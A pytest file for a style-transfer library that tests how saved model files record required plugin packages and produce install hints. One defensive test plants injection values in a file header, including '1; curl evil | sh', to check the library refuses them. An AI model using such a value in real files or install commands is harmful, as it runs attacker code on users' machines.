"""The packages that a model needs: they are recorded in its file, and errors say what to install."""

from __future__ import annotations

import importlib
import json
import shutil
from pathlib import Path
from typing import TYPE_CHECKING

import pytest
import torch

import stylekit
from stylekit import StylekitError, StylekitWarning, make
from stylekit.inference import model_files
from stylekit.registry import lookup, provenance
from stylekit.weights import tensors
from tests.facts import raises, warns

if TYPE_CHECKING:
    from tests.conftest import Install

GENERATOR = """
from stylekit import hookimpl
from torch import nn

@hookimpl
def stylekit_generators():
    return {"NAME": lambda: nn.Conv2d(3, 3, 1)}
"""
FLOWER = """
from stylekit import Method, Part, hookimpl, make
from torch import nn

class Flower(Method):
    def __init__(self, generator: Part = "petal") -> None:
        super().__init__()
        self.generator = make("generator", generator)

    def stylize(self, content, style=None):
        return self.generator(content)

@hookimpl
def stylekit_methods():
    return {"flower": Flower}

@hookimpl
def stylekit_generators():
    return {"petal": lambda: nn.Sequential(nn.Conv2d(3, 3, 1), nn.Sigmoid())}
"""


@pytest.fixture
def flower(install: Install, tmp_path: Path) -> Path:
    """A model file of an installed method, with a generator of another package."""
    install("flowers", "flower", FLOWER, "1.2")
    install("tulips", "tulip", GENERATOR.replace("NAME", "unused"), "2.1")
    method = make("method", "flower", generator="unused")
    model_files.save_model(method, "flower", tmp_path / "flower.safetensors")
    return tmp_path / "flower.safetensors"


def uninstall(folder: Path, package: str) -> None:
    (metadata,) = (folder / "site").glob(f"{package}-*.dist-info")
    shutil.rmtree(metadata)
    importlib.invalidate_caches()


def test_a_model_file_names_the_packages_of_its_parts(flower: Path) -> None:
    header = tensors.read_tensors(flower)[1]
    assert header["origin"] == "flowers 1.2"
    assert json.loads(header["packages"]) == {"flowers": "1.2", "tulips": "2.1"}
    assert stylekit.load(flower).name == "flower"


@pytest.mark.parametrize("package", ["flowers", "tulips"])
def test_the_error_for_a_missing_package_says_what_to_install(flower: Path, tmp_path: Path, package: str) -> None:
    uninstall(tmp_path, package)
    wanted = {"flowers": "flowers==1.2", "tulips": "tulips==2.1"}[package]
    with raises(StylekitError, flower, f"pip install {wanted}"):
        stylekit.load(flower)


def test_the_error_for_an_excluded_package_names_the_variable(flower: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("STYLEKIT_PLUGINS", "flowers")
    with raises(StylekitError, flower, "tulips", "STYLEKIT_PLUGINS"):
        stylekit.load(flower)


def test_a_model_loaded_with_a_given_class_still_needs_the_packages_of_its_parts(flower: Path, tmp_path: Path) -> None:
    method = lookup.find_part("method", "flower")
    uninstall(tmp_path, "flowers")
    assert stylekit.load(flower, method=method).name == "flower"
    uninstall(tmp_path, "tulips")
    with raises(StylekitError, "pip install tulips==2.1"):
        stylekit.load(flower, method=method)


@pytest.mark.parametrize(
    "packages",
    ['{"x": "1; curl evil | sh"}', '{"\\u001b[2J": "1"}', '{"": "1"}', "[[1, 2]]", '{"x": 1}', '{"-e .": "1"}'],
)
def test_a_file_cannot_inject_text_into_the_install_command(flower: Path, packages: str) -> None:
    held, header = tensors.read_tensors(flower)
    tensors.write_tensors(flower, held, {**header, "packages": packages})
    with raises(StylekitError, flower, "damaged") as caught:
        stylekit.load(flower)
    assert "pip install" not in str(caught.value)
    assert "\x1b" not in str(caught.value)


def test_a_part_without_a_dict_is_built_without_a_record(install: Install) -> None:
    source = """
from stylekit import hookimpl

class Few:
    __slots__ = ("item_keys", "modules")
    def __init__(self, size: int = 8, seed: int = 0, split: str = "train"):
        self.item_keys, self.modules = ("content",), []

@hookimpl
def stylekit_datasets():
    return {"few": Few}
"""
    install("tulips", "few", source)
    assert provenance.packages(make("dataset", "few"), torch.nn.Identity()) == {}


def test_another_version_of_a_package_is_a_warning(flower: Path, tmp_path: Path, install: Install) -> None:
    uninstall(tmp_path, "tulips")
    (tmp_path / "site" / "tulips-3.0.dist-info").mkdir()
    (tmp_path / "site" / "tulips-3.0.dist-info" / "METADATA").write_text(
        "Metadata-Version: 2.1\nName: tulips\nVersion: 3.0\n"
    )
    (tmp_path / "site" / "tulips-3.0.dist-info" / "entry_points.txt").write_text("[stylekit]\ntulip = sample_tulips\n")
    with warns(StylekitWarning, flower, "tulips 2.1", "3.0", "pip install tulips==2.1"):
        assert stylekit.load(flower).name == "flower"


def test_a_model_whose_names_now_refer_to_parts_of_other_packages_is_refused(
    flower: Path, tmp_path: Path, install: Install
) -> None:
    """For example when stylekit adds a method with that name."""
    (tmp_path / "site" / "tulips-2.1.dist-info" / "entry_points.txt").write_text("")
    install("roses", "rose", GENERATOR.replace("NAME", "unused"))
    with raises(StylekitError, flower, "parts", "tulips"):
        stylekit.load(flower)
